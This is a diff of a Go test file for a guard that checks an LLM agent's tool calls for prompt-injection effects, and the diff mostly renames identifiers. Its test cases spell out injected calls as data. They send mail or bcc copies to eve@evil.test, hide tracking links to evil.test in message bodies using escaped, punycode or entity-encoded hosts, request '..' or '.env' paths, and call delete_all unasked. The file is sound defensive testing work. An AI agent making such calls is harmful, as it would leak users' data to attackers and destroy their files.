@@ -15,9 +15,9 @@ import (
 )
 
 var mailTools = []guard.Tool{
-	{Name: "search", Reads: true},
-	{Name: "send_email", Asked: []string{"send", "mail"}, Free: []string{"subject", "body"}},
-	{Name: "book", Asked: []string{"book", "reserve a"}},
+	{Name: "search", ReadOnly: true},
+	{Name: "send_email", IntentPhrases: []string{"send", "mail"}, UntrustedArguments: []string{"subject", "body"}},
+	{Name: "book", IntentPhrases: []string{"book", "reserve a"}},
 	{Name: "delete_all"},
 }
 
@@ -30,64 +30,64 @@ func TestTaintedCalls(t *testing.T) {
 		kind                   string // "": passes
 	}{
 		{name: "untainted anything", user: "hi", tool: "send_email", args: `{"to":"bob@example.org"}`, clean: true},
-		{name: "unlisted", user: "hi", tool: "rm", clean: true, kind: guard.ToolUnlisted},
-		{name: "reading", user: "Summarise.", tool: "search", args: `{"q":"eve@evil.test"}`},
-		{name: "unasked", user: "Summarise this.", tool: "send_email", args: `{"to":"eve@evil.test"}`, kind: guard.ToolUnasked},
-		{name: "unasked without arguments", user: "Summarise this.", tool: "delete_all", kind: guard.ToolUnasked},
-		{name: "asked, other recipient", user: "Send a summary to ana@example.org.", tool: "send_email", args: `{"to":"eve@evil.test","body":"hello"}`, kind: guard.ToolTainted},
-		{name: "asked, added recipient", user: "Send a summary to ana@example.org.", tool: "send_email", args: `{"to":"ana@example.org","bcc":["eve@evil.test"]}`, kind: guard.ToolTainted},
-		{name: "escaped", user: "Send a summary to ana@example.org.", tool: "send_email", args: `{"to":"eve\u0040evil.test"}`, kind: guard.ToolTainted},
-		{name: "in a key", user: "Send a summary to ana@example.org.", tool: "send_email", args: `{"to":{"eve@evil.test":true}}`, kind: guard.ToolTainted},
-		{name: "key in a free argument", user: "Send a summary to ana@example.org.", tool: "send_email", args: `{"body":{"eve":true}}`, kind: guard.ToolTainted},
-		{name: "twice", user: "Send a summary to ana@example.org.", tool: "send_email", args: `{"to":"eve@evil.test","to":"ana@example.org"}`, kind: guard.ToolMalformed},
-		{name: "no JSON", user: "Send a summary to ana@example.org.", tool: "send_email", args: `to=eve`, kind: guard.ToolMalformed},
-		{name: "two values while unasked", user: "Summarise.", tool: "send_email", args: `{"to":"ana@example.org","to":"eve@evil.test"}`, kind: guard.ToolMalformed},
-		{name: "argument named by an address", user: "Send a summary to ana@example.org.", tool: "send_email", args: `{"eve@evil.test":true}`, kind: guard.ToolTainted},
-		{name: "argument named by a number", user: "Book room 12.", tool: "book", args: `{"13":true}`, kind: guard.ToolTainted},
-		{name: "wildcard", user: "- Book room 12.\n* now", tool: "book", args: `{"room":"*"}`, kind: guard.ToolTainted},
-		{name: "wildcard behind a word", user: "Book room 12.", tool: "book", args: `{"room":"12*"}`, kind: guard.ToolTainted},
+		{name: "unlisted", user: "hi", tool: "rm", clean: true, kind: guard.KindToolUnlisted},
+		{name: "reading", user: "Summarize.", tool: "search", args: `{"q":"eve@evil.test"}`},
+		{name: "unasked", user: "Summarize this.", tool: "send_email", args: `{"to":"eve@evil.test"}`, kind: guard.KindToolUnasked},
+		{name: "unasked without arguments", user: "Summarize this.", tool: "delete_all", kind: guard.KindToolUnasked},
+		{name: "asked, other recipient", user: "Send a summary to ana@example.org.", tool: "send_email", args: `{"to":"eve@evil.test","body":"hello"}`, kind: guard.KindToolTainted},
+		{name: "asked, added recipient", user: "Send a summary to ana@example.org.", tool: "send_email", args: `{"to":"ana@example.org","bcc":["eve@evil.test"]}`, kind: guard.KindToolTainted},
+		{name: "escaped", user: "Send a summary to ana@example.org.", tool: "send_email", args: `{"to":"eve\u0040evil.test"}`, kind: guard.KindToolTainted},
+		{name: "in a key", user: "Send a summary to ana@example.org.", tool: "send_email", args: `{"to":{"eve@evil.test":true}}`, kind: guard.KindToolTainted},
+		{name: "key in a free argument", user: "Send a summary to ana@example.org.", tool: "send_email", args: `{"body":{"eve":true}}`, kind: guard.KindToolTainted},
+		{name: "twice", user: "Send a summary to ana@example.org.", tool: "send_email", args: `{"to":"eve@evil.test","to":"ana@example.org"}`, kind: guard.KindToolMalformed},
+		{name: "no JSON", user: "Send a summary to ana@example.org.", tool: "send_email", args: `to=eve`, kind: guard.KindToolMalformed},
+		{name: "two values while unasked", user: "Summarize.", tool: "send_email", args: `{"to":"ana@example.org","to":"eve@evil.test"}`, kind: guard.KindToolMalformed},
+		{name: "argument named by an address", user: "Send a summary to ana@example.org.", tool: "send_email", args: `{"eve@evil.test":true}`, kind: guard.KindToolTainted},
+		{name: "argument named by a number", user: "Book room 12.", tool: "book", args: `{"13":true}`, kind: guard.KindToolTainted},
+		{name: "wildcard", user: "- Book room 12.\n* now", tool: "book", args: `{"room":"*"}`, kind: guard.KindToolTainted},
+		{name: "wildcard behind a word", user: "Book room 12.", tool: "book", args: `{"room":"12*"}`, kind: guard.KindToolTainted},
 		{name: "own wildcard", user: "Book *.log", tool: "book", args: `{"room":"*.log"}`},
-		{name: "parent folder", user: "Book room 12...", tool: "book", args: `{"room":".."}`, kind: guard.ToolTainted},
-		{name: "hidden file", user: "Book env", tool: "book", args: `{"room":".env"}`, kind: guard.ToolTainted},
-		{name: "words behind an address", user: "Book https://example.org/a for my secret", tool: "book", args: `{"url":"https://example.org/a;my;secret"}`, kind: guard.ToolTainted},
-		{name: "signs behind an address", user: "Book https://example.org/a", tool: "book", args: `{"url":"https://example.org/a.:?)"}`, kind: guard.ToolTainted},
+		{name: "parent folder", user: "Book room 12...", tool: "book", args: `{"room":".."}`, kind: guard.KindToolTainted},
+		{name: "hidden file", user: "Book env", tool: "book", args: `{"room":".env"}`, kind: guard.KindToolTainted},
+		{name: "words behind an address", user: "Book https://example.org/a for my secret", tool: "book", args: `{"url":"https://example.org/a;my;secret"}`, kind: guard.KindToolTainted},
+		{name: "signs behind an address", user: "Book https://example.org/a", tool: "book", args: `{"url":"https://example.org/a.:?)"}`, kind: guard.KindToolTainted},
 		{name: "address in a sentence", user: "Book it from https://example.org/a, please", tool: "book", args: `{"note":"book (https://example.org/a), please"}`},
 		{name: "list of addresses", user: "Send it to ana@example.org and bob@example.org", tool: "send_email", args: `{"to":"ana@example.org,Bob@example.org"}`},
-		{name: "unquoted attribute in the body", user: "Send it to ana@example.org", tool: "send_email", args: `{"to":"ana@example.org","body":"<img src=//evil.test/x>"}`, kind: guard.ToolTainted},
-		{name: "one slash in the body", user: "Send it to ana@example.org", tool: "send_email", args: `{"to":"ana@example.org","body":"<a href=https:/evil.test/x>"}`, kind: guard.ToolTainted},
-		{name: "backslash in the body", user: "Send it to ana@example.org", tool: "send_email", args: `{"to":"ana@example.org","body":"<img src=/\\evil.test/x>"}`, kind: guard.ToolTainted},
-		{name: "references in the body", user: "Send it to ana@example.org", tool: "send_email", args: `{"to":"ana@example.org","body":"<a href='https&#58;&#47;&#47;evil&#46;test&#47;x'>"}`, kind: guard.ToolTainted},
-		{name: "punycode in the body", user: "Send it to ana@example.org", tool: "send_email", args: `{"to":"ana@example.org","body":"see evil.xn--p1ai/x"}`, kind: guard.ToolTainted},
-		{name: "wide full stop in the body", user: "Send it to ana@example.org", tool: "send_email", args: `{"to":"ana@example.org","body":"see evil。test"}`, kind: guard.ToolTainted},
+		{name: "unquoted attribute in the body", user: "Send it to ana@example.org", tool: "send_email", args: `{"to":"ana@example.org","body":"<img src=//evil.test/x>"}`, kind: guard.KindToolTainted},
+		{name: "one slash in the body", user: "Send it to ana@example.org", tool: "send_email", args: `{"to":"ana@example.org","body":"<a href=https:/evil.test/x>"}`, kind: guard.KindToolTainted},
+		{name: "backslash in the body", user: "Send it to ana@example.org", tool: "send_email", args: `{"to":"ana@example.org","body":"<img src=/\\evil.test/x>"}`, kind: guard.KindToolTainted},
+		{name: "references in the body", user: "Send it to ana@example.org", tool: "send_email", args: `{"to":"ana@example.org","body":"<a href='https&#58;&#47;&#47;evil&#46;test&#47;x'>"}`, kind: guard.KindToolTainted},
+		{name: "punycode in the body", user: "Send it to ana@example.org", tool: "send_email", args: `{"to":"ana@example.org","body":"see evil.xn--p1ai/x"}`, kind: guard.KindToolTainted},
+		{name: "wide full stop in the body", user: "Send it to ana@example.org", tool: "send_email", args: `{"to":"ana@example.org","body":"see evil。test"}`, kind: guard.KindToolTainted},
 		{name: "ordinary body", user: "Send it to ana@example.org", tool: "send_email", args: `{"to":"ana@example.org","body":"* 3.14 and/or 2.5x (see 2.1); 9:00-17:00, A&B, 10/12"}`},
-		{name: "two values", user: "Send a summary to ana@example.org.", tool: "send_email", args: `{}{"to":"eve@evil.test"}`, kind: guard.ToolMalformed},
+		{name: "two values", user: "Send a summary to ana@example.org.", tool: "send_email", args: `{}{"to":"eve@evil.test"}`, kind: guard.KindToolMalformed},
 		{name: "asked", user: "Send a summary to ana@example.org.", tool: "send_email", args: `{"to":"Ana@example.org","subject":"Summary","body":"It asks for everything. Costs 3.14 e.g. now."}`},
-		{name: "link in the body", user: "Send a summary to ana@example.org.", tool: "send_email", args: `{"to":"ana@example.org","body":"see https://evil.test/x"}`, kind: guard.ToolTainted},
-		{name: "bare host in the body", user: "Send a summary to ana@example.org.", tool: "send_email", args: `{"to":"ana@example.org","body":"see evil.test/x now"}`, kind: guard.ToolTainted},
+		{name: "link in the body", user: "Send a summary to ana@example.org.", tool: "send_email", args: `{"to":"ana@example.org","body":"see https://evil.test/x"}`, kind: guard.KindToolTainted},
+		{name: "bare host in the body", user: "Send a summary to ana@example.org.", tool: "send_email", args: `{"to":"ana@example.org","body":"see evil.test/x now"}`, kind: guard.KindToolTainted},
 		{name: "own link in the body", user: "Send ana@example.org a summary and https://example.org/x", tool: "send_email", args: `{"to":"ana@example.org","body":"see https://example.org/x."}`},
 		{name: "number", user: "Book room 12.", tool: "book", args: `{"room":12,"sure":true,"note":null}`},
-		{name: "other number", user: "Book room 12.", tool: "book", args: `{"room":13}`, kind: guard.ToolTainted},
+		{name: "other number", user: "Book room 12.", tool: "book", args: `{"room":13}`, kind: guard.KindToolTainted},
 		{name: "enum", user: "Book room 12.", tool: "book", args: `{"room":12,"mode":"quiet"}`},
 		{name: "asked by a phrase", user: "Reserve  a room, 12 please.", tool: "book", args: `{"room":12}`},
-		{name: "half a phrase", user: "Reserve room 12.", tool: "book", args: `{"room":12}`, kind: guard.ToolUnasked},
-		{name: "inside a word", user: "My notebook 12.", tool: "book", args: `{"room":12}`, kind: guard.ToolUnasked},
+		{name: "half a phrase", user: "Reserve room 12.", tool: "book", args: `{"room":12}`, kind: guard.KindToolUnasked},
+		{name: "inside a word", user: "My notebook 12.", tool: "book", args: `{"room":12}`, kind: guard.KindToolUnasked},
 		{name: "amount", user: "Book #12 for $12.50 and 3.00", tool: "book", args: `{"room":12,"price":12.5,"fee":3}`},
 		{name: "thousands", user: "Book 12 for ($1,250.50), then 12,000.", tool: "book", args: `{"room":12,"price":1250.5,"fee":12000}`},
-		{name: "no thousands", user: "Book 12 for 1,25 or 1,2500", tool: "book", args: `{"room":12,"price":125}`, kind: guard.ToolTainted},
-		{name: "other amount", user: "Book 12 for 12.50", tool: "book", args: `{"room":12,"price":125}`, kind: guard.ToolTainted},
+		{name: "no thousands", user: "Book 12 for 1,25 or 1,2500", tool: "book", args: `{"room":12,"price":125}`, kind: guard.KindToolTainted},
+		{name: "other amount", user: "Book 12 for 12.50", tool: "book", args: `{"room":12,"price":125}`, kind: guard.KindToolTainted},
 		{name: "host alone", user: "Book on example.org", tool: "book", args: `{"url":"https://example.org/"}`},
-		{name: "host with a path", user: "Book on example.org", tool: "book", args: `{"url":"https://example.org/a"}`, kind: guard.ToolTainted},
-		{name: "host with a query", user: "Book on example.org", tool: "book", args: `{"url":"https://example.org?a"}`, kind: guard.ToolTainted},
+		{name: "host with a path", user: "Book on example.org", tool: "book", args: `{"url":"https://example.org/a"}`, kind: guard.KindToolTainted},
+		{name: "host with a query", user: "Book on example.org", tool: "book", args: `{"url":"https://example.org?a"}`, kind: guard.KindToolTainted},
 		{name: "allowed", user: "Yes.", tool: "delete_all", allow: "delete_all"},
-		{name: "another allowed", user: "Yes.", tool: "delete_all", allow: "book", kind: guard.ToolUnasked},
-		{name: "allowed, tainted", user: "Yes.", tool: "send_email", args: `{"to":"eve@evil.test"}`, allow: "send_email", kind: guard.ToolTainted},
+		{name: "another allowed", user: "Yes.", tool: "delete_all", allow: "book", kind: guard.KindToolUnasked},
+		{name: "allowed, tainted", user: "Yes.", tool: "send_email", args: `{"to":"eve@evil.test"}`, allow: "send_email", kind: guard.KindToolTainted},
 	} {
 		for _, stream := range []bool{false, true} {
 			next := &modeltest.Script{Turns: []modeltest.Turn{{Chunks: modeltest.CallTool(0, "c1", c.tool, c.args)}}}
 			m := newModel(t, next, &guard.Options{Tools: mailTools})
-			ctx := guard.NewContext(t.Context(), guard.Delimit)
+			ctx := guard.NewContext(t.Context(), guard.SpotlightDelimit)
 			if c.allow != "" {
-				ctx = guard.Allow(ctx, c.allow)
+				ctx = guard.AllowTools(ctx, c.allow)
 			}
 			user := c.user
 			if !c.clean {
@@ -109,7 +109,7 @@ func TestTaintedCalls(t *testing.T) {
 			var blocked *guard.BlockedError
 			require.ErrorAs(t, err, &blocked, c.name)
 			assert.Equal(t, c.kind, blocked.Verdict.Findings[0].Kind, c.name)
-			assert.Equal(t, c.tool, blocked.Verdict.Where.Tool)
+			assert.Equal(t, c.tool, blocked.Verdict.Location.Tool)
 			assert.Empty(t, s.tool.String(), c.name)
 		}
 	}
@@ -126,7 +126,7 @@ func TestToolResultTaints(t *testing.T) {
 }
 
 func TestEndorsedFields(t *testing.T) {
-	tools := []guard.Tool{{Name: "find", Reads: true, Endorsed: []string{"order", "email"}}, {Name: "look", Reads: true}, {Name: "refund", Asked: []string{"refund"}}}
+	tools := []guard.Tool{{Name: "find", ReadOnly: true, TrustedFields: []string{"order", "email"}}, {Name: "look", ReadOnly: true}, {Name: "refund", IntentPhrases: []string{"refund"}}}
 	for _, c := range []struct {
 		tool, result, args string
 		passes             bool
@@ -170,7 +170,7 @@ func TestApproval(t *testing.T) {
 		{name: "not in doubt", tool: "send_email", args: `{"to":"ana@example.org"}`, passes: true},
 		{name: "no tool of ours", tool: "rm", args: `{}`, yes: true},
 		{name: "can't be read", tool: "send_email", args: `to=eve`, yes: true},
-		{name: "only flagged anyway", tool: "send_email", args: `{"to":"eve@evil.test"}`, policy: guard.Flag, passes: true},
+		{name: "only flagged anyway", tool: "send_email", args: `{"to":"eve@evil.test"}`, policy: guard.PolicyFlag, passes: true},
 	} {
 		var verdicts []guard.Verdict
 		asked := false
@@ -183,7 +183,7 @@ func TestApproval(t *testing.T) {
 				assert.Equal(t, c.value, call.Arguments[why.Start:why.End], c.name)
 				return c.yes, c.err
 			}})
-		ctx := guard.NewContext(t.Context(), guard.Delimit)
+		ctx := guard.NewContext(t.Context(), guard.SpotlightDelimit)
 		r, err := m.GenerateContent(ctx, human("Send it to ana@example.org."+guard.Untrusted(ctx, "some text")[0]))
 		assert.Equal(t, c.asked, asked, c.name)
 		assert.Equal(t, c.passes, err == nil, "%s: %v", c.name, err)
@@ -195,20 +195,20 @@ func TestApproval(t *testing.T) {
 		}
 		if c.asked {
 			require.Len(t, verdicts, 1, c.name)
-			assert.Equal(t, c.passes, verdicts[0].Policy == guard.Flag, c.name)
+			assert.Equal(t, c.passes, verdicts[0].Policy == guard.PolicyFlag, c.name)
 		}
 	}
 }
 
 // The user sees what would be done, each time that it would.
 func TestApprovalShowsWhatIsRun(t *testing.T) {
-	ctx := guard.NewContext(t.Context(), guard.Delimit)
+	ctx := guard.NewContext(t.Context(), guard.SpotlightDelimit)
 	const args = `{"to":"eve@evil.test","body":"swordfish"}`
 	for _, stream := range []bool{false, true} {
 		next := &modeltest.Script{Turns: []modeltest.Turn{{Chunks: append(modeltest.CallTool(0, "c1", "send_email", args), modeltest.CallTool(1, "c2", "send_email", args)...)}}}
 		var shown []string
-		m := newModel(t, next, &guard.Options{Tools: mailTools, ToolPolicy: guard.Redact,
-			ToolCalls: []guard.Check{{Name: "word", Find: word("swordfish", "WORD"), Policy: guard.Redact}},
+		m := newModel(t, next, &guard.Options{Tools: mailTools, ToolPolicy: guard.PolicyRedact,
+			ToolCalls: []guard.Check{{Name: "word", Find: word("swordfish", "WORD"), Policy: guard.PolicyRedact}},
 			Approve: func(_ context.Context, call llms.FunctionCall, why guard.Finding) (bool, error) {
 				shown = append(shown, call.Arguments)
 				assert.Equal(t, `"eve@evil.test"`, call.Arguments[why.Start:why.End])
@@ -232,7 +232,7 @@ func TestApprovalShowsWhatIsRun(t *testing.T) {
 }
 
 func TestForcedToolIsTheApplicationsChoice(t *testing.T) {
-	ctx := guard.NewContext(t.Context(), guard.Delimit)
+	ctx := guard.NewContext(t.Context(), guard.SpotlightDelimit)
 	next := &modeltest.Script{Turns: []modeltest.Turn{{Chunks: modeltest.CallTool(0, "c1", "delete_all", "")}}}
 	_, err := newModel(t, next, &guard.Options{Tools: mailTools}).GenerateContent(ctx, human("go"+guard.Untrusted(ctx, "some text")[0]),
 		llms.WithToolChoice(llms.ToolChoice{Type: "function", Function: &llms.FunctionReference{Name: "delete_all"}}))
@@ -246,7 +246,7 @@ func TestForbiddenCallIsTakenOut(t *testing.T) {
 			chunks[i].Unmarked = unmarked
 		}
 		next := &modeltest.Script{Turns: []modeltest.Turn{{Chunks: append([]modeltest.Chunk{{Text: "Let me see. ", Unmarked: unmarked}}, chunks...)}}}
-		m := newModel(t, next, &guard.Options{Tools: mailTools, ToolPolicy: guard.Redact})
+		m := newModel(t, next, &guard.Options{Tools: mailTools, ToolPolicy: guard.PolicyRedact})
 		var s seen
 		r, err := m.GenerateContent(t.Context(), human("hi"), llms.WithStreamingFunc(s.hear))
 		require.NoError(t, err)
@@ -277,7 +277,7 @@ func TestDeltasThatTheAnswerDoesNotHoldAreJudged(t *testing.T) {
 
 func TestArgumentsAreCheckedDecoded(t *testing.T) {
 	next := &modeltest.Script{Turns: []modeltest.Turn{{Chunks: modeltest.CallTool(0, "c1", "search", `{"q": ["sword\u0066ish & co", 1]}`)}}}
-	m := newModel(t, next, &guard.Options{ToolCalls: []guard.Check{{Name: "word", Find: word("swordfish", "WORD"), Policy: guard.Redact}}})
+	m := newModel(t, next, &guard.Options{ToolCalls: []guard.Check{{Name: "word", Find: word("swordfish", "WORD"), Policy: guard.PolicyRedact}}})
 	var s seen
 	r, err := m.GenerateContent(context.Background(), human("hi"), llms.WithStreamingFunc(s.hear))
 	require.NoError(t, err)
@@ -288,9 +288,9 @@ func TestArgumentsAreCheckedDecoded(t *testing.T) {
 func TestAmbiguousArgumentsAreBlocked(t *testing.T) {
 	for _, arguments := range []string{`{"q":"sword\u0066ish","q":"x"}`, `{"q":"sword\u0066ish"`, `{"q":1} {"q":"sword\u0066ish"}`} {
 		next := &modeltest.Script{Turns: []modeltest.Turn{{Chunks: modeltest.CallTool(0, "c1", "search", arguments)}}}
-		_, err := newModel(t, next, &guard.Options{ToolCalls: []guard.Check{{Name: "word", Find: word("swordfish", "WORD"), Policy: guard.Redact}}}).GenerateContent(t.Context(), human("hi"))
+		_, err := newModel(t, next, &guard.Options{ToolCalls: []guard.Check{{Name: "word", Find: word("swordfish", "WORD"), Policy: guard.PolicyRedact}}}).GenerateContent(t.Context(), human("hi"))
 		var blocked *guard.BlockedError
 		require.ErrorAs(t, err, &blocked, arguments)
-		assert.Equal(t, guard.ToolMalformed, blocked.Verdict.Findings[0].Kind)
+		assert.Equal(t, guard.KindToolMalformed, blocked.Verdict.Findings[0].Kind)
 	}
 }
